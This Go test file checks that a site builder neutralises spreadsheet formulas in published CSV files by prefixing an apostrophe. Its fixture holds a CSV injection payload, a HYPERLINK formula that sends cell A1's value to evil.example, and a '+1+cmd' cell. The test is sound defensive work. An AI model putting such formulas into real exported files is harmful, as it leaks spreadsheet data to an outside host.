package build

import (
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestDownloadsNeutraliseFormulas checks that no published CSV carries a
// cell a spreadsheet would run as a formula (issue 13): the dataset copy,
// held or streamed, and data/index.csv. Figures keep their sign.
func TestDownloadsNeutraliseFormulas(t *testing.T) {
	dir := copySite(t, "testdata/big")
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("data/notes.toml", "title = \"=1+1\"\nsource = \"@fuente\"\n[[columns]]\nname = \"=nota\"\ntype = \"text\"\n[[columns]]\nname = \"v\"\ntype = \"number\"\n")
	write("data/notes.csv", "=nota,v\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-3.5\n+1+cmd,-2\n")
	want := "'=nota,v\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-3.5\n'+1+cmd,-2\n"
	for _, streamed := range []bool{false, true} {
		if streamed {
			defer func(old int64) { bigFile = old }(bigFile)
			bigFile = 10
		}
		res := Build(os.DirFS(dir))
		if !res.OK() {
			t.Fatal(res.Diagnostics.Format("en"))
		}
		files := map[string]string{}
		for _, f := range res.Files {
			files[f.Path] = string(f.Data)
			if f.Open != nil {
				rc, err := f.Open()
				if err != nil {
					t.Fatal(err)
				}
				b, err := io.ReadAll(rc)
				rc.Close()
				if err != nil {
					t.Fatal(err)
				}
				files[f.Path] = string(b)
			}
		}
		if got := files["data/notes.csv"]; got != want {
			t.Errorf("streamed %v: data/notes.csv is\n%s\nwant\n%s", streamed, got, want)
		}
		if cat := files[CatalogueFile]; !strings.Contains(cat, "notes,data/notes.csv,'=1+1,'=1+1,,'@fuente,") {
			t.Errorf("streamed %v: %s lacks the neutralised row:\n%s", streamed, CatalogueFile, cat)
		}
	}
}
